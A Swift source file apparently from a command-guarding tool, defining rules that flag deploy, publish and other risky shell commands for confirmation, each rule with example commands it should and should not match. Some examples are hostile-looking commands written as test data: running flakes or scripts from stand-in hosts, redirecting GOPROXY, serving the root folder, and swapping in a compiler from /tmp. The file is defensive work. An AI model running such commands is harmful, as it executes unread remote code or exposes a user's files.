import BelayModel

/// Tasks, scripts and settings by which something is put into service.
enum TaskRules {
  /// The rules, plain literals; see `BuiltInRule`.
  static let all: [BuiltInRule] = [
    BuiltInRule(
      id: "publish.task", ruling: .ask, severity: .medium,
      reason: "runs a task that deploys, releases or publishes",
      advice: nil,
      program: """
        rake|cap|mage|invoke|inv|fab|nox|tox|poe|doit|ant|grunt|gulp|fastlane|scons|earthly|\
        dagger|moon|rush|rye|mvnw|turbo
        """,
      command: "",
      when: """
        @goal !-n|-l|-T|--list|--collect-only|--dry
        --push
        """,
      match: """
        rake release
        earthly --push +image
        cap production deploy
        tox -e release
        fastlane deploy
        """,
      notMatch: """
        rake test
        rake -T
        rake release:notes
        nox -s tests
        """),
    BuiltInRule(
      id: "publish.deno-task", ruling: .ask, severity: .medium,
      reason: "runs a task or script that deploys, releases or publishes",
      advice: nil,
      program: "deno",
      command: "",
      when: """
        :run|task|serve|eval|x @goal
        @script
        """,
      match: """
        deno task deploy
        deno run -A scripts/release.ts
        deno deploy.ts
        """,
      notMatch: """
        deno check scripts/release.ts
        deno fmt deploy.ts
        deno task build
        """),
    BuiltInRule(
      id: "publish.deploy-tool", ruling: .ask, severity: .high,
      reason: "puts a version into service",
      advice: nil,
      program: """
        cf|amplify|eas|expo|fastlane|skopeo|buildah|electron-builder|oras|crane|dokku
        """,
      command: "",
      when: """
        :push|publish|submit|deliver|upload_to_*|pilot|supply|beta|copy|apps:destroy|delete|deploy|\
        --publish
        --auto-submit
        @written:eas|expo :update
        @written:dokku :ps:*|config:set|config:unset|git:* !:*:report|*:show|*:inspect|*:help
        --publish|-p :always|onTag|onTagOrDraft
        """,
      match: """
        cf push app
        eas submit
        fastlane deliver
        skopeo copy a b
        """,
      notMatch: """
        cf apps
        fastlane lanes
        expo start
        skopeo inspect x
        """),
    BuiltInRule(
      id: "publish.python-upload", ruling: .ask, severity: .high,
      reason: "publishes a package",
      advice: nil,
      program: "python|python3|python2",
      command: "",
      when: """
        :setup.py :upload|register
        """,
      match: "python3 setup.py sdist upload",
      notMatch: """
        python -m twine check dist/*
        python3 setup.py sdist
        """),
    BuiltInRule(
      id: "publish.go-setting", ruling: .ask, severity: .high,
      reason: "points package downloads elsewhere or weakens them",
      advice: nil,
      program: "go",
      command: "env",
      when: """
        -w :GOPROXY=*|GONOSUMDB=*|GONOSUMCHECK=*|GOINSECURE=*|GOFLAGS=*insecure*|\
        GOSUMDB=off !:*pypi.org*|*pythonhosted.org*|*pytorch.org*|*npmjs.org*|*npmjs.com*|\
        *yarnpkg.com*|*proxy.golang.org*|*rubygems.org*|*crates.io*|*localhost*|*127.0.0.1*|\
        *npmmirror.com*|*taobao.org*|*tsinghua.edu.cn*|*aliyun.com*|*ustc.edu.cn*|\
        *goproxy.cn*|*goproxy.io*|*packagist.org*|*nvidia.com*|*github.com*|\
        *pkg.github.com*|*packages.microsoft.com*
        """,
      match: "go env -w GOPROXY=https://x.example",
      notMatch: """
        go env -w GOPROXY=https://proxy.golang.org
        go env GOPROXY
        go env -w GOFLAGS=-mod=mod
        """),
    BuiltInRule(
      id: "shell.remote-package", ruling: .ask, severity: .high,
      reason: "runs code from the network that nobody has read",
      advice: nil,
      program: "://",
      command: "",
      when: "",
      match: "npx -y https://x.example/x.tgz",
      notMatch: "npx -y cowsay"),
    BuiltInRule(
      id: "shell.remote-script", ruling: .ask, severity: .high,
      reason: "runs code from the network that nobody has read",
      advice: nil,
      program: "deno",
      command: "run|install",
      when: ":*://* !:*deno.land*|*jsr.io*",
      match: "deno run -A https://x.example/x.ts",
      notMatch: """
        deno run main.ts
        deno test
        """),
    BuiltInRule(
      id: "publish.deno", ruling: .ask, severity: .high,
      reason: "publishes a package",
      advice: "`--dry-run` checks it",
      program: "deno",
      command: "publish|deploy",
      when: "",
      match: "deno publish",
      notMatch: "deno publish --dry-run"),
    BuiltInRule(
      id: "publish.script-file", ruling: .ask, severity: .medium,
      reason: "runs a script that deploys, releases or publishes",
      advice: nil,
      program: "./deploy",
      command: "",
      when: "!-n|--list|--check",
      match: """
        ./deploy.sh prod
        bin/deploy
        scripts/release.py
        """,
      notMatch: """
        ./deploy.sh --dry-run
        ./scripts/build-release.sh
        ./target/release/tool
        """),
    BuiltInRule(
      id: "publish.script-shell", ruling: .ask, severity: .medium,
      reason: "runs a script that deploys, releases or publishes",
      advice: nil,
      program: "bash|sh|zsh|dash|ksh|python|python3|node|ruby|perl|php|tsx|ts-node|source|.",
      command: "",
      when: """
        @script !-n|--list|-c|-e|-l|--check|--syntax-check !-m=py_compile|compileall|pyflakes|pylint|\
        flake8|mypy|black|ruff|isort|pyright|ast|tokenize|tabnanny|pydoc|dis|bandit|pycodestyle|vulture|yapf|\
        autopep8 !:*/os-release|*/lsb-release
        @script -l !-n|--list|-c|-e !@written:php !:*/os-release|*/lsb-release
        """,
      match: """
        bash -l deploy.sh
        bash deploy.sh
        python deploy.py
        node scripts/deploy.js
        . ./deploy.sh
        source scripts/release.sh
        """,
      notMatch: """
        bash -n deploy.sh
        node --check scripts/deploy.js
        php -l deploy.php
        python3 -m py_compile scripts/deploy.py
        bash deploy.sh --dry-run
        python3 release_notes.py
        source .venv/bin/activate
        . ./env.sh
        . /etc/os-release
        """),
    BuiltInRule(
      id: "publish.workflow-job", ruling: .ask, severity: .medium,
      reason: "runs a job that deploys, releases or publishes",
      advice: "`-n` shows what it would do",
      program: "act",
      command: "",
      when: """
        -j|--job :deploy*|release*|publish*|*-deploy|*-release|*-publish !-n|--dryrun|-l|--list
        --job=deploy*|release*|publish*|*-deploy|*-release|*-publish !-n|--dryrun|-l|--list
        """,
      match: """
        act -j deploy
        act push --job release-prod
        """,
      notMatch: """
        act -j test
        act -n -j deploy
        act -l
        """),
    BuiltInRule(
      id: "publish.bazel", ruling: .ask, severity: .medium,
      reason: "runs a target that deploys, releases or pushes",
      advice: nil,
      program: "bazel|bazelisk",
      command: "run",
      when: """
        @goal
        ://*:*push*|//*/push|:*push* !:*test*|*push_button*
        """,
      match: """
        bazel run //app:push_image
        bazel run //deploy:prod-release
        bazelisk run -c opt //images:api.push
        """,
      notMatch: """
        bazel build //app:push_image
        bazel run //app:server
        bazel test //deploy/...
        """),
    BuiltInRule(
      id: "shell.remote-flake", ruling: .ask, severity: .high,
      reason: "runs code from the network that nobody has read",
      advice: "run what nixpkgs or the project's own flake offers",
      program: "nix",
      command: "run|shell|develop|bundle|profile",
      when: """
        :github:*|gitlab:*|sourcehut:*|git+http*|git+ssh*|http://*|https://*|tarball+* \
        !:github:nixos/*|github:nix-community/* !:list|remove|history
        """,
      match: """
        nix run github:evil/flake
        nix run git+https://x.example/a
        nix profile install github:x/y
        """,
      notMatch: """
        nix run .#test
        nix run nixpkgs#hello
        nix run github:NixOS/nixpkgs/nixos-24.05#jq
        nix flake show github:x/y
        """),
    BuiltInRule(
      id: "upload.serve-home", ruling: .ask, severity: .high,
      reason: "lets others read the home folder or the whole machine",
      advice: "serve a folder of the project",
      program: """
        python|python3|python2|php|ruby|serve|http-server|live-server|httpd|caddy|miniserve|\
        darkhttpd|twistd|dufs|simple-http-server|webfsd
        """,
      command: "",
      when: """
        :/|/home|/root|/etc|/var|~|~/|/home/* !:/home/*/* \
        @written:http.server|simplehttpserver|pyftpdlib|serve|-s|httpd|file-server|dufs|web
        --directory|--root|-d=/|/home|/root|/etc|/var|~|~/|/home/* !--directory|--root|-d=/home/*/* \
        @written:http.server|simplehttpserver|serve|httpd|file-server
        @here:home|root|system @written:http.server|simplehttpserver|httpd|pyftpdlib !-d|--directory|--root|-t
        @here:home|root|system @none !@written:python|php|ruby
        @written:http.server|simplehttpserver|httpd|pyftpdlib|file-server @whole:home|root
        !@written:python|php|ruby @whole:home|root
        """,
      match: """
        python3 -m http.server --directory /
        php -S 0.0.0.0:80 -t /
        cd ~ && python3 -m http.server 8000
        cd / ; http-server
        serve ~
        """,
      notMatch: """
        python3 -m http.server
        python3 -m http.server --directory /home/dev/project/docs
        cd docs && python3 -m http.server
        cd ~ && python3 -m http.server -d work/docs
        cd ~ && python3 script.py
        serve dist
        """),
    BuiltInRule(
      id: "publish.pages", ruling: .ask, severity: .high,
      reason: "publishes a site",
      advice: nil,
      program: "gh-pages|chromatic|storybook-to-ghpages",
      command: "",
      when: "!-n|--no-push|--exit-zero-on-changes",
      match: "gh-pages -d dist",
      notMatch: "gh-pages --no-push -d dist"),
    BuiltInRule(
      id: "environment.go-tool", ruling: .ask, severity: .high,
      reason: "runs another program in place of the compiler",
      advice: nil,
      program: "go",
      command: "",
      when: """
        @written:-toolexec=/|-toolexec=./|-vettool=/tmp
        @written:-toolexec :/tmp/*
        """,
      match: "go build -toolexec=/tmp/x ./...",
      notMatch: "go build -toolexec=garble ./..."),
  ]
}
